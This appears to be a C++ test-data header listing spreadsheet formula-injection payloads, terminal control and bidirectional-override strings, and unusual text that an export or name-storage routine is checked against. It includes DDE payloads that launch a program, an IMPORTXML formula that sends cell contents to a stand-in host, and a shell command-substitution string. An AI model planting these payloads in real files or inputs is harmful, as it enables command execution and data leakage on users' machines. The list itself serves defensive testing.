#pragma once

#include <string>
#include <vector>

namespace xushi {

/// What a spreadsheet might run: every sign that begins a formula, in the forms that are known to be tried.
inline std::vector<std::string> formulaPayloads() {
    std::vector<std::string> payloads;
    for (const std::string sign : {"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", "\r\n=", " =", "　="})
        for (const std::string body : {"1+1", "HYPERLINK(\"http://x.example\",\"点\")", "cmd|' /C calc'!A0",
                                       "IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "SUM(A1:A9)*cmd|'x'!A1"})
            payloads.push_back(sign + body);
    return payloads;
}

/// Texts that command a screen, break a format or hide: none of them may be stored as a name.
inline std::vector<std::string> commandingTexts() {
    using namespace std::string_literals;
    std::vector<std::string> texts{"前\0后"s, "\x1B[2J\x1B[31m红"s, "\a响"s, "a\rb"s, "a\nb"s, "a\tb"s, "\b\b\b"s, "\x7F"s,
                                   "\u0080"s, "\u009B31m"s, "\u009D0;title\u009C"s, "\u061C"s, "\u200E"s, "\u202E倒"s, "\u2066a\u2069"s,
                                   "\u2028"s, "\u2029"s, "\uFFFE"s, "\uFFFF"s, "\U0001FFFE"s, "\uFDD0"s, "\U000E0041"s,
                                   "\xFF\xFE"s, "\xED\xA0\x80"s, "尾\xE4\xB8"s};
    for (char c = 1; c < 0x20; ++c) texts.push_back("c"s + c + "d");
    return texts;
}

/// Texts that may be stored and must come through as they are.
inline std::vector<std::string> strangeTexts() {
    return {"R&D经费 <b>x</b> &amp; ]]>", "_x0041_", "a_x000D_b", "\"引号\",逗号;分号|竖线", "'撇号", "''=1", "𠮷林", "葛\U000E0100城",
            "100%", "%1 %2 {0} {1}", "C:\\目录", "../上级", "$HOME `id` $(id)", "—", "无", "…", "0,123", "1e5", "TRUE", "2025-05",
            "\uE123", "é\u0301", "ﬁ", "①", "\u2F00号"};
}

} // namespace xushi
